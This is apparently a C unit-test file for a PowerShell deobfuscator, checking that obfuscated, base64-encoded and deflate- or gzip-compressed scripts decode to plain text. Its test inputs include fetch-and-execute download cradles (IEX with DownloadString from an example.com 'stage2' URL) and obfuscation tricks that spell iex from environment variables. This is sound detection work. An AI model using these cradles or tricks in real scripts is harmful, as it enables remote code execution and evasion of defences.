/*
 * test_deobf_ps - unit tests for the PowerShell passes (deobf_ps.c: psnorm, iex), the
 *                 UTF-16LE script layer and the compressed FromBase64String streams
 *                 (deobf.c with core/inflate.c, the zlib adapter)
 *
 * Each case is a script in one of the shapes Invoke-Obfuscation-style tooling writes
 * (ticks, the format operator, [char] casts and joins, -replace, fixed automatic
 * variables indexed to spell iex, variables assigned once) and states the exact psnorm
 * text, or the iex layer, it must produce. The compressed cases build the same download
 * cradle plain, gzip'd and raw-deflated with zlib in the test, and check that all three
 * give the same decoded text (so the analysers score them the same). Negatives: an admin
 * script with ordinary variables and string building gives no psnorm layer.
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <zlib.h>

#include "core/inflate.h"
#include "heur/deobf.h"
#include "lib/buf.h"
#include "lib/xalloc.h"
#include "testouts.h"
#include "testutil.h"

static void run(OUTS *o, const char *lang, const char *in, size_t n)
{
    DEOBF_LIMITS lim = {1u << 20, 32, 40};
    outs_free(o);
    deobf_run(lang, in, n, &lim, outs_collect, o);
}

/* want - the pass how made exactly text from in */
static void want(const char *in, const char *how, const char *text)
{
    OUTS o = {0};
    run(&o, "ps1", in, strlen(in));
    const OUT *x = outs_find(&o, how);
    if (x == NULL || strcmp(x->data, text) != 0) {
        for (size_t i = 0; i < o.n; i++)
            print_message("  got %s/%s: [%s]\n", o.v[i].how, o.v[i].lang, o.v[i].data);
        fail_msg("input [%s]: want %s [%s]", in, how, text);
    }
    outs_free(&o);
}

static void test_psnorm(void **state)
{
    (void)state;
    want("I`E`X (New-Object Net.WebClient).DownloadString('http://example.com/a')", "psnorm",
         "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')");
    want("$u = (\"{2}{0}{1}\" -f 'ample.com','/a','http://ex')\n", "psnorm",
         "$u = 'http://example.com/a'\n");
    want("& ([char]105+[char]0x65+[char](120)) 'Write-Host hello world'", "psnorm",
         "& 'iex' 'Write-Host hello world'");
    want("$c = [char[]](73,69,88) -join ''\n", "psnorm", "$c = 'IEX'\n");
    want("$c = -join ('Down','load','String')\n", "psnorm", "$c = 'DownloadString'\n");
    want("$s = 'DowXXloadStriXXg' -replace 'XX','n'\n", "psnorm", "$s = 'DownloadString'\n");
    want("$s = ('Net.WebCQQent').Replace('QQ','li')\n", "psnorm", "$s = 'Net.WebClient'\n");
    want(".( $PSHome[4]+$pshome[30]+'x') 'Write-Host hi there'", "psnorm",
         ".'iex' 'Write-Host hi there'");
    want("&( $env:comspec[4,15,25]-Join'')('Write-Host hi there')", "psnorm",
         "&'Iex'('Write-Host hi there')");
    /* variables assigned once feed the reductions that follow */
    want("$a = 'Down'\n$b = 'loadString'\n$m = $a + $b\n(New-Object Net.WebClient).$m('x')",
         "psnorm",
         "$a = 'Down'\n$b = 'loadString'\n$m = 'DownloadString'\n(New-Object "
         "Net.WebClient).'DownloadString'('x')");
    /* here-strings and comments survive */
    want("# comment\n$t = @'\nWrite-Host 'x'\n'@\nI`EX $t", "psnorm",
         "# comment\n$t = @'\nWrite-Host 'x'\n'@\nIEX 'Write-Host ''x'''");
}

static void test_iex(void **state)
{
    (void)state;
    want("I`EX ('Write-Host ' + 'unwrapped code')", "iex", "Write-Host unwrapped code");
    want("'Write-Host piped'+' code' | &('ie'+'x')", "iex", "Write-Host piped code");
    want("Invoke-Expression ([char]87+'rite-Host cast code')", "iex", "Write-Host cast code");
}

static void test_negative(void **state)
{
    (void)state;
    static const char admin[] =
        "param([string]$Server = 'localhost')\n"
        "# list the services that are stopped\n"
        "$name = 'Spooler'\n$path = 'C:\\Logs\\' + $name + '.log'\n"
        "Get-Service -ComputerName $Server | Where-Object { $_.Status -eq 'Stopped' } |\n"
        "    ForEach-Object { Write-Host (\"{0} is stopped\" -f $_.Name) }\n"
        "Get-Service -Name $name | Out-File $path\n";
    OUTS o = {0};
    run(&o, "ps1", admin, strlen(admin));
    assert_null(outs_find(&o, "psnorm"));
    assert_null(outs_find(&o, "iex"));
    outs_free(&o);
}

/* deflated - p compressed by zlib: gzip (wbits 31) or raw deflate (-15), base64 */
static char *deflated(const char *p, int wbits)
{
    z_stream z = {0};
    unsigned char out[8192];
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY), Z_OK);
    z.next_in = (unsigned char *)p;
    z.avail_in = (unsigned)strlen(p);
    z.next_out = out;
    z.avail_out = sizeof(out);
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    size_t n = sizeof(out) - z.avail_out;
    deflateEnd(&z);
    return b64(out, n);
}

static const char CRADLE[] =
    "$wc = New-Object System.Net.WebClient; $wc.Headers.Add('User-Agent','x');"
    "IEX $wc.DownloadString('http://example.com/stage2.ps1'); Start-Process calc.exe";

static void test_compressed(void **state)
{
    (void)state;
    char *plain = b64(CRADLE, strlen(CRADLE)), *gz = deflated(CRADLE, 31),
         *raw = deflated(CRADLE, -15);
    BUF *b = buf_new(1024);
    OUTS o = {0};
    /* plain base64 */
    buf_printf(b, "IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('%s')))",
               plain);
    run(&o, "ps1", b->data, b->len);
    assert_non_null(outs_find(&o, "frombase64string"));
    assert_string_equal(outs_find(&o, "frombase64string")->data, CRADLE);
    /* raw deflate, the .NET DeflateStream shape */
    buf_reset(b);
    buf_printf(b,
               "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
               "[IO.MemoryStream][Convert]::FromBase64String('%s'),"
               "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
               raw);
    run(&o, "ps1", b->data, b->len);
    const OUT *x = outs_find(&o, "inflate");
    assert_non_null(x);
    assert_string_equal(x->lang, "ps1");
    assert_string_equal(x->data, CRADLE);
    /* gzip, GzipStream */
    buf_reset(b);
    buf_printf(b,
               "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"%s\"));"
               "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
               "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
               gz);
    run(&o, "ps1", b->data, b->len);
    x = outs_find(&o, "inflate");
    assert_non_null(x);
    assert_string_equal(x->data, CRADLE);
    /* a bare gzip'd base64 blob anywhere (no stream named) is inflated too */
    buf_reset(b);
    buf_printf(b, "$blob = '%s'\n", gz);
    run(&o, "ps1", b->data, b->len);
    x = outs_find(&o, "inflate");
    assert_non_null(x);
    assert_string_equal(x->data, CRADLE);
    outs_free(&o);
    buf_free(b);
    free(plain);
    free(gz);
    free(raw);
}

/* test_inflate_bounded - the adapter stops at max (a bomb costs max bytes) */
static void test_inflate_bounded(void **state)
{
    (void)state;
    size_t big = 8u << 20;
    unsigned char *zeros = xcalloc(big, 1);
    uLongf zn = compressBound(big);
    unsigned char *z = xmalloc(zn);
    assert_int_equal(compress2(z, &zn, zeros, big, 9), Z_OK);
    BUF *out = buf_new(64);
    assert_int_equal(zinflate(z, zn, out, 65536), ZINFLATE_CUT);
    assert_int_equal(out->len, 65536);
    buf_reset(out);
    assert_int_equal(zinflate(z, zn, out, big), ZINFLATE_OK);
    assert_int_equal(out->len, big);
    buf_reset(out);
    assert_int_equal(zinflate((const unsigned char *)"not deflate at all", 18, out, 100),
                     ZINFLATE_BAD);
    buf_reset(out);
    assert_int_equal(zinflate(z, zn / 2, out, big), ZINFLATE_CUT); /* truncated: the start */
    assert_true(out->len > 0);
    buf_free(out);
    free(z);
    free(zeros);
}

/* test_utf16 - a UTF-16LE script (BOM or not) is handed back as UTF-8 text */
static void test_utf16(void **state)
{
    (void)state;
    static const char text[] = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    BUF *b = buf_new(256);
    buf_cat(b, "\xFF\xFE", 2);
    for (size_t i = 0; text[i]; i++)
        buf_cat(b, (char[]){text[i], 0}, 2);
    OUTS o = {0};
    run(&o, "ps1", b->data, b->len);
    const OUT *x = outs_find(&o, "utf16");
    assert_non_null(x);
    assert_string_equal(x->lang, "ps1");
    assert_string_equal(x->data, text);
    run(&o, "ps1", b->data + 2, b->len - 2); /* without the BOM */
    assert_non_null(outs_find(&o, "utf16"));
    assert_string_equal(outs_find(&o, "utf16")->data, text);
    outs_free(&o);
    buf_free(b);
}

/* test_hostile - megabyte inputs of the shapes the reductions read: bounded outputs */
static void test_hostile(void **state)
{
    (void)state;
    static const char *const pieces[] = {
        "'a'+",
        "('a',",
        "'{0}{0}{0}{0}' -f ",
        "[char]65+",
        "$v='x'\n$v+$v+",
        "I`E`X`",
        "'aaaa' -replace 'a','aaaa' -replace 'a','aaaa'",
        "@'\n",
        "-join (",
        "$pshome[4]+",
    };
    for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
        BUF *b = buf_new(1 << 20);
        while (b->len < (1u << 20))
            buf_puts(b, pieces[k]);
        OUTS o = {0};
        DEOBF_LIMITS lim = {1u << 20, 32, 40};
        deobf_run("ps1", b->data, b->len, &lim, outs_collect, &o);
        assert_true(o.n <= 32);
        for (size_t i = 0; i < o.n; i++)
            assert_true(o.v[i].len <= (1u << 20));
        outs_free(&o);
        buf_free(b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_psnorm),          cmocka_unit_test(test_iex),
        cmocka_unit_test(test_negative),        cmocka_unit_test(test_compressed),
        cmocka_unit_test(test_inflate_bounded), cmocka_unit_test(test_utf16),
        cmocka_unit_test(test_hostile),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
